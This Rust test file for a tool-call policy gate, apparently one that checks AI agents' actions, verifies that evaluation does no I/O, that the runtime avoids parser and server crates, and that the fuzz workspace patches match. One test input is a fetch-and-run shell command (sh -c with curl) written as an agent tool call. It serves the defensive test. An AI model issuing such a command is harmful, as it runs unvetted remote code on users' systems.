#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "test setup fails loudly"
)]
//! ARCHITECTURE.md's runtime invariants, each as a test:
//! - evaluation does no I/O (this thread's read and write system calls,
//!   counted by the kernel, do not move while it decides);
//! - the runtime library has no parser stack and no serving stack (its
//!   dependency tree without the `cli` feature, from `cargo tree`);
//! - the fuzz targets build with the crates the gate is built with (the
//!   workspace's `[patch.crates-io]`, repeated in `fuzz/`).
//!
//! "The runtime never allocates per rule" is `compiler/tests/allocations.rs`
//! (it needs bundles of 10 and 10,000 rules, which the compiler builds).

use gait_run::bundle::{verify, VerifyOptions};
use gait_run::gate::{evaluate, EvalOptions};
use gait_run::tables::Scratch;
use std::path::Path;

/// `syscr` + `syscw` of this thread (`/proc/thread-self/io`): how many
/// read-like and write-like system calls it made. Reading the file is one
/// read of its own.
fn io_syscalls() -> u64 {
    let text = std::fs::read_to_string("/proc/thread-self/io").unwrap();
    text.lines()
        .filter_map(|l| l.split_once(": "))
        .filter(|(k, _)| matches!(*k, "syscr" | "syscw"))
        .map(|(_, v)| v.trim().parse::<u64>().unwrap())
        .sum()
}

#[test]
fn evaluation_does_no_io() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures");
    let bytes = std::fs::read(dir.join("matrix.gaitb")).unwrap();
    let bundle = verify(
        &bytes,
        &VerifyOptions {
            insecure_skip_verify: true,
            ..Default::default()
        },
    )
    .unwrap();
    let mut intents: Vec<Vec<u8>> = gait_run::bench::builtin_intents()
        .into_iter()
        .map(|(_, t)| t)
        .collect();
    intents.push(b"not json".to_vec());
    intents.push(br#"{"tool_name": "exec", "args": {"command": "sh -c \"$(curl x)\""}}"#.to_vec());
    let plain = EvalOptions::default();
    let explain = EvalOptions {
        explain: true,
        simulate: true,
        ..Default::default()
    };
    let mut scratch = Scratch::default();
    let mut out = Vec::with_capacity(1 << 16);
    // Warm: anything lazily initialised (the clock's vDSO, thread-locals).
    for t in &intents {
        evaluate(&bundle, t, &plain, &mut scratch, &mut out);
    }
    out.clear();
    let before = io_syscalls();
    let after_probe = io_syscalls();
    let probe = after_probe - before;
    let mut decided = 0;
    for _ in 0..200 {
        for t in &intents {
            for opts in [&plain, &explain] {
                evaluate(&bundle, t, opts, &mut scratch, &mut out);
                out.clear();
                decided += 1;
            }
        }
    }
    let after = io_syscalls();
    assert!(probe >= 1, "the counter moves with I/O: {probe}");
    assert_eq!(
        after - after_probe,
        probe,
        "{decided} decisions made {} read/write system calls",
        after - after_probe - probe
    );
}

#[test]
fn the_runtime_library_has_no_parser_or_serving_stack() {
    let cargo = std::env::var("CARGO").unwrap_or_else(|_| "cargo".into());
    let out = std::process::Command::new(cargo)
        .args([
            "tree",
            "--offline",
            "-p",
            "gait-run",
            "-e",
            "normal",
            "--no-default-features",
            "--prefix",
            "none",
        ])
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let tree = String::from_utf8(out.stdout).unwrap();
    let crates: std::collections::BTreeSet<&str> = tree
        .lines()
        .filter_map(|l| l.split_whitespace().next())
        .collect();
    // The tree is real: the runtime's own dependencies are in it.
    for needed in ["gait-run", "serde_json", "sha2", "regex-automata"] {
        assert!(crates.contains(needed), "{needed} missing from {crates:?}");
    }
    for forbidden in [
        "logos",
        "lalrpop",
        "lalrpop-util",
        "codespan-reporting",
        "clap",
        "regex-syntax",
        "lsp-server",
        "tokio",
        "hyper",
        "hyper-util",
        "http-body-util",
        "pyo3",
    ] {
        assert!(
            !crates.contains(forbidden),
            "the runtime library depends on {forbidden}"
        );
    }
}

/// The crates the workspace patches (`[patch.crates-io]` in the root
/// `Cargo.toml`: brush-parser with the bound on its work) are patched the
/// same way in `fuzz/`, a workspace of its own that the root's patch does
/// not reach: the fuzz targets must exercise the parser the gate runs (they
/// did not even build against the unpatched one).
#[test]
fn the_fuzz_workspace_patches_what_the_workspace_patches() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("..");
    let section = |text: &str| -> Vec<String> {
        text.lines()
            .skip_while(|l| l.trim() != "[patch.crates-io]")
            .skip(1)
            .take_while(|l| !l.trim_start().starts_with('['))
            .map(str::trim)
            .filter(|l| !l.is_empty() && !l.starts_with('#'))
            .map(str::to_owned)
            .collect()
    };
    let main = section(&std::fs::read_to_string(root.join("Cargo.toml")).unwrap());
    let fuzz = section(&std::fs::read_to_string(root.join("fuzz/Cargo.toml")).unwrap());
    assert!(!main.is_empty(), "the workspace patches brush-parser");
    let expected: Vec<String> = main
        .iter()
        .map(|l| l.replace("path = \"", "path = \"../"))
        .collect();
    assert_eq!(fuzz, expected, "fuzz/Cargo.toml's [patch.crates-io]");
}
